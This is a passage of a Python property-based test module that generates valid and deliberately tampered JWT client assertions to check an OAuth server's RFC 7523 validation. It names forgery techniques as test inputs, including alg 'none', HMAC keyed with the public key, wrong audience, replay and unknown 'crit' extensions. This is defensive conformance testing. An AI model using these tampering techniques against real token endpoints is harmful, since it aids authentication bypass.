        st.sampled_from(["unknown_extension", "not_a_list", "empty_list", "registered_name"]).map(
            lambda v: Perturbation("crit", v)),
        st.tuples(_word(string.ascii_lowercase, 1, 8, prefix="x_fuzz_"), JSON_VALUES).map(
            lambda p: Perturbation("claim", p[0], p[1])),
        st.sampled_from(["omit", "other_client"]).map(lambda v: Perturbation("client_id", v)),
        st.sampled_from(["omit", "saml2", "garbage"]).map(lambda v: Perturbation("assertion_type", v)),
        st.sampled_from(["two_assertions", "basic_too"]).map(lambda v: Perturbation("form", v)),
        st.sampled_from(["garbage", "two_parts", "five_parts"]).map(lambda v: Perturbation("shape", v)),
        replay,
        exp, aud, alg_change, signature, replay,
    )


def decisive_perturbations(method: str) -> st.SearchStrategy[Perturbation]:
    """The changes a server must never let through (RFC 7523 §3 items 1-4, 9-10; RFC 7521 §4.2),
    each as likely as the others: expired, not yet valid, for another audience, of another client,
    unsigned or with an algorithm trick, badly signed, a mismatching client_id, replayed, or naming
    an unknown extension in ``crit`` (RFC 7515 §4.1.11: the recipient MUST reject it)."""
    algs = ["none", "header_mismatch"] + (["hmac_with_public_key"] if method == "private_key_jwt" else [])
    return _pick(
        st.integers(-10 ** 8, -600).map(lambda n: Perturbation("exp", "offset", n)),
        st.integers(600, 10 ** 7).map(lambda n: Perturbation("nbf", "offset", n)),
        st.sampled_from(["other_url", "omit", "list_other", "trailing_slash"]).map(lambda v: Perturbation("aud", v)),
        st.sampled_from(["iss", "sub", "iss_sub"]).map(lambda t: Perturbation(t, "other_client")),
        st.sampled_from(algs).map(lambda v: Perturbation("alg", v)),
        st.sampled_from(["broken", "unknown_key", "empty"]).map(lambda v: Perturbation("signature", v)),
        st.just(Perturbation("client_id", "other_client")),
        st.just(Perturbation("replay", "twice")),
        st.just(Perturbation("crit", "unknown_extension")),
    )


def assertion_cases(clients: dict[str, Any]) -> st.SearchStrategy[AssertionCase]:
    """An assertion of one of ``clients`` (label -> ClientConfig): valid (one in seven), with one
    perturbation of any kind (two in seven) or of a decisive kind (two in seven), or with two or
    three (two in seven)."""
    labels = sorted(clients)

    def for_label(label: str) -> st.SearchStrategy[AssertionCase]:
        client = clients[label]
        alg = client.alg or ("HS256" if client.auth_method == "client_secret_jwt" else "ES256")
        one = perturbations(client.auth_method, alg)
        single = one.map(lambda p: AssertionCase(label, (p,)))
        several = st.lists(one, min_size=2, max_size=3,
                           unique_by=lambda p: "iss" if p.target in ("iss", "sub", "iss_sub") else p.target).map(
            lambda ps: AssertionCase(label, tuple(ps)))
        decisive = decisive_perturbations(client.auth_method).map(lambda p: AssertionCase(label, (p,)))
        return _pick(single, several, decisive, st.just(AssertionCase(label)), single, several, decisive)

    built = {label: for_label(label) for label in labels}  # built once: flatmap would rebuild per draw
    return st.sampled_from(labels).flatmap(built.__getitem__)
